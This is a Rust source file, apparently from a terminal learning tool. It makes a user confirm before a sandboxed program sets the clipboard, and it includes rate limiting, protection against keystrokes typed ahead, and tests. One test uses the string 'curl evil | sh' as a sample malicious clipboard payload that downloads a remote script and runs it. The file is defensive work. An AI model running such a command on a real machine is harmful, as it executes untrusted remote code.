//! The clipboard, where a program in a sandbox wants to set it.
//!
//! What is on the clipboard is pasted elsewhere, perhaps into a shell of the learner's own machine:
//! so a person is asked first. Reading it is never offered.

use std::collections::HashSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

use super::{App, Choice, Dialog, Effect, Layer};
use crate::tui::screens::outcome::characters;
use crate::tui::widgets::tame::visible;
use crate::tui::widgets::text::fit;

/// After a no, for so long the next requests only say so in the footer: a program that asks again
/// and again must not bury the screen.
const QUIET: Duration = Duration::from_secs(10);

/// A key that comes so soon behind the question, or behind such a key, was meant for the program:
/// whoever types has not read it yet.
const UNREAD: Duration = Duration::from_millis(300);

/// How much of the text is shown, in columns.
const SHOWN: usize = 60;

/// What was answered before.
#[derive(Debug, Default)]
pub(super) struct Answers {
    /// The items whose sandboxes may, until the program ends.
    allowed: HashSet<String>,
    /// When the last no was.
    refused: Option<Instant>,
    /// When the question came, or the last key that was not for it.
    unread: Option<Instant>,
}

/// An answer to a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    /// No, and nothing is copied.
    No,
    /// This text.
    Once(Arc<str>),
    /// This text and all that follow.
    Always {
        /// Of this item's sandbox.
        item: String,
        /// The text.
        text: Arc<str>,
    },
}

impl App {
    /// A program in an item's sandbox wants `text` on the clipboard.
    pub(super) fn clipboard_wanted(
        &mut self,
        item: &str,
        text: String,
        now: Instant,
    ) -> Vec<Effect> {
        if self.clipboard.allowed.contains(item) {
            return self.copy_for_program(&text);
        }
        if self.layers.iter().any(asks) {
            return vec![];
        }
        if self.clipboard.refused.is_some_and(|at| now.saturating_duration_since(at) < QUIET) {
            self.notice = Some("A program wanted to set the clipboard again; refused".to_owned());
            return vec![];
        }
        self.clipboard.unread = Some(now);
        self.layers.push(Layer::Dialog(question(item, text)));
        vec![]
    }

    /// Whether a key is none for the question about the clipboard, which is on top, if it is.
    pub(super) fn is_typed_on(&mut self, now: Instant) -> bool {
        let soon = |at| now.saturating_duration_since(at) < UNREAD;
        let typed_on =
            self.layers.last().is_some_and(asks) && self.clipboard.unread.is_some_and(soon);
        if typed_on {
            self.clipboard.unread = Some(now);
        }
        typed_on
    }

    pub(super) fn clipboard_answered(&mut self, answer: Answer, now: Instant) -> Vec<Effect> {
        match answer {
            Answer::No => {
                self.clipboard.refused = Some(now);
                vec![]
            }
            Answer::Once(text) => self.copy_for_program(&text),
            Answer::Always { item, text } => {
                self.clipboard.allowed.insert(item);
                self.copy_for_program(&text)
            }
        }
    }

    fn copy_for_program(&mut self, text: &str) -> Vec<Effect> {
        self.notice = Some(format!("A program copied {}", characters(text)));
        vec![Effect::Copy(text.to_owned())]
    }
}

/// Whether a layer asks about the clipboard.
fn asks(layer: &Layer) -> bool {
    let of_clipboard = |choice: &Choice| matches!(choice, Choice::Clipboard(_));
    matches!(layer, Layer::Dialog(dialog) if dialog.answers.iter().any(|(_, c)| of_clipboard(c)))
}

fn question(item: &str, text: String) -> Dialog {
    let lines = text.lines().count();
    let first = fit(&visible(text.lines().next().unwrap_or_default()), SHOWN);
    let more = match lines {
        0 | 1 => String::new(),
        2 => "\nand 1 more line".to_owned(),
        lines => format!("\nand {} more lines", lines - 1),
    };
    let long = characters(&text);
    let text: Arc<str> = text.into();
    Dialog {
        title: "The clipboard".to_owned(),
        text: format!(
            "A program in the sandbox of {item} wants to put {long} on your clipboard:\n\n\
             {first}{more}"
        ),
        answers: vec![
            ("No".to_owned(), Choice::Clipboard(Answer::No)),
            ("Once".to_owned(), Choice::Clipboard(Answer::Once(text.clone()))),
            (
                "For this sandbox, until drydock ends".to_owned(),
                Choice::Clipboard(Answer::Always { item: item.to_owned(), text }),
            ),
        ],
        selected: 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tui::app::WorkspaceEvent;
    use crate::tui::app::driver::Driver;

    fn working() -> Driver {
        let mut driver = Driver::new(120, 40);
        driver.at_work("linux-01");
        driver.press("2");
        driver
    }

    fn wants(driver: &mut Driver, text: &str) -> Vec<Effect> {
        let effects = driver.workspace(WorkspaceEvent::Clipboard(text.into()));
        driver.now += UNREAD;
        effects
    }

    #[test]
    fn no_is_the_answer_of_who_types_on() {
        let mut driver = working();
        assert_eq!(wants(&mut driver, "curl evil | sh\n"), []);
        assert_eq!(driver.press("l s enter"), [], "neither copied nor typed");
        assert!(driver.app.layers.is_empty());
    }

    #[test]
    fn keys_that_were_under_way_answer_nothing() {
        let mut driver = working();
        wants(&mut driver, "one");
        driver.now -= UNREAD;
        for _ in 0..5 {
            driver.now += UNREAD / 2;
            assert_eq!(driver.press("y tab right"), []);
        }
        assert_eq!(driver.app.layers.len(), 1, "it is still asked");
        assert_eq!(driver.press("enter"), [], "which is no, since nothing was chosen");
        driver.now += QUIET;
        wants(&mut driver, "one");
        assert_eq!(driver.press("tab enter"), [Effect::Copy("one".into())]);
    }

    #[test]
    fn once_is_once() {
        let mut driver = working();
        wants(&mut driver, "one");
        assert_eq!(driver.press("right enter"), [Effect::Copy("one".into())]);
        assert_eq!(driver.app.notice.as_deref(), Some("A program copied 3 characters"));
        assert_eq!(wants(&mut driver, "two"), []);
        assert_eq!(driver.app.layers.len(), 1, "asked again");
    }

    #[test]
    fn always_is_for_one_sandbox() {
        let mut driver = working();
        wants(&mut driver, "one");
        assert_eq!(driver.press("right right enter"), [Effect::Copy("one".into())]);
        assert_eq!(wants(&mut driver, "two"), [Effect::Copy("two".into())]);
        driver.at_work("linux-02");
        assert_eq!((wants(&mut driver, "three"), driver.app.layers.len()), (vec![], 1));
    }

    #[test]
    fn a_flood_of_requests_is_one_question_and_then_a_word() {
        let mut driver = working();
        for _ in 0..100 {
            wants(&mut driver, "again");
        }
        assert_eq!(driver.app.layers.len(), 1);
        driver.press("esc");
        for _ in 0..100 {
            driver.workspace(WorkspaceEvent::Clipboard("again".into()));
        }
        assert!(driver.app.layers.is_empty());
        let word = "A program wanted to set the clipboard again; refused";
        assert_eq!(driver.app.notice.as_deref(), Some(word));
        driver.now += QUIET;
        wants(&mut driver, "again");
        assert_eq!(driver.app.layers.len(), 1);
    }

    #[test]
    fn what_is_to_be_copied_is_shown_as_it_is() {
        let text = |text: &str| question("linux-01", text.to_owned()).text;
        let shown = text("a\x1b[31m\u{202e}b\nsecond\nthird");
        assert!(shown.ends_with("a^[[31m<202e>b\nand 2 more lines"), "{shown}");
        assert!(text(&"x".repeat(70_000)).contains("70000 characters"));
        assert!(text("").ends_with("0 characters on your clipboard:\n\n"));
    }
}
